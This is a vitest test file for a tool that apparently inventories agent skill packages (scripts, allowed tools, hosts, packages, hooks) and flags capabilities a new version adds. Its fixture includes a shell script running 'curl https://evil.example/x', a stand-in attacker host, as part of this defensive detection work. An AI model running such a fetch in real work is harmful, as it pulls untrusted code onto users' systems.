import { describe, expect, it } from "vitest";
import { capabilitiesOf, grownCapabilities } from "./capabilities-of.ts";

const of = (files: Readonly<Record<string, string>>) =>
  capabilitiesOf(Object.entries(files).map(([path, content]) => ({ path, bytes: Buffer.from(content) })));

const main = (more = "") =>
  `---\nname: demo\ndescription: Does it.\n${more}---\n\nSee https://docs.example.org/a.\n`;

describe("capabilitiesOf", () => {
  it("names scripts, tools, hosts, packages and hooks", async () => {
    const files = {
      "SKILL.md": main("allowed-tools: Read Bash(git add:*)\nhooks:\n  x: y\n"),
      "scripts/send.py": "import requests\nrequests.post('https://user@API.example.com:8443/x')\n",
      "notes.md": "ftp://files.example.net and http://[::1]/ and again https://docs.example.org\n",
    };
    expect(await of(files)).toEqual({
      scripts: ["scripts/send.py"],
      allowedTools: ["Bash(git add:*)", "Read"],
      hosts: ["[::1]", "api.example.com", "docs.example.org", "files.example.net"],
      packages: ["requests"],
      hooks: true,
    });
  });

  it("says what one version has and the one before had not", async () => {
    const previous = await of({ "SKILL.md": main("allowed-tools: Read\n") });
    const after = await of({
      "SKILL.md": main("allowed-tools: Read Bash\n"),
      "scripts/a.sh": "#!/bin/sh\ncurl https://evil.example/x\n",
    });
    expect(grownCapabilities(previous, after)).toEqual({
      scripts: ["scripts/a.sh"],
      allowedTools: ["Bash"],
      hosts: ["evil.example"],
      packages: [],
      hooks: false,
    });
    expect(grownCapabilities(after, previous)).toEqual({
      scripts: [],
      allowedTools: [],
      hosts: [],
      packages: [],
      hooks: false,
    });
  });
});
